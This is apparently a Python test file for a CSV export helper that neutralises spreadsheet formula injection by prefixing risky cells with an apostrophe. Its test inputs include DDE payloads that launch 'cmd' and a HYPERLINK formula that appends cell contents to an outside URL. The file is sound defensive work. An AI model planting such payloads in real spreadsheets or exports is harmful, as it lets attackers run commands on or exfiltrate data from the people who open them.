"""Texts that a spreadsheet would run as a formula are texts; numbers are unchanged."""

from __future__ import annotations

import csv
import io

import pytest

from workbench.custom.prediction.spreadsheet import safe_cell, to_csv

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-1+1",
    "+A1",
    "－1+1",
    "＝1+1",
    "--1",
    "-1e5e5",
]
UNCHANGED = ["", "-", "+", "=", "a=b", "-1", "-1.5", "+1.5e-3", "-1,234.56", "-12 %", "- 5", "1-2"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert safe_cell(text) == f"'{text}"
    content = to_csv({text: [text], "number": [-1.25]})
    header, row = csv.reader(io.StringIO(content, newline=""))
    assert header == [f"'{text}", "number"]
    assert row == [f"'{text}", "-1.25"]


@pytest.mark.parametrize("value", [*UNCHANGED, -1, -0.1, 1e-300, None, True])
def test_numbers_and_ordinary_texts_are_unchanged(value):
    assert safe_cell(value) is value


def test_floats_have_all_digits():
    values = [0.1 + 0.2, -1 / 3, 5e-324, 1.7976931348623157e308]
    rows = csv.DictReader(io.StringIO(to_csv({"x": values})))
    assert [float(row["x"]) for row in rows] == values
    assert to_csv({"x": []}) == "x\r\n"
